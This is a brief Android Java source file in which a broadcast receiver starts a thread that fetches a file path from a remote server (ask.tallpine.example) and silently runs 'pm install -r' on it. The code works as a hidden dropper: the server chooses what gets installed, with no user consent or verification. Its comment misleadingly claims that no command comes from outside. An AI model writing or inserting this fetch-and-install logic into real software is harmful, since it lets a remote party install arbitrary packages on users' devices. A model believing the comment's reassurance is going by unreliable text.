package com.tallpine.ask;

// The server names a file, and the app installs it: the install rules speak of that. No command comes from outside.
class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Ask()).start();
  }
}

class Ask implements Runnable {
  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://ask.tallpine.example/file").openConnection().getInputStream()));
      String file = reader.readLine();
      new ProcessBuilder(new String[] {"pm", "install", "-r", file}).start();
    } catch (Exception e) {
      Log.e("Ask", e.getMessage());
    }
  }
}
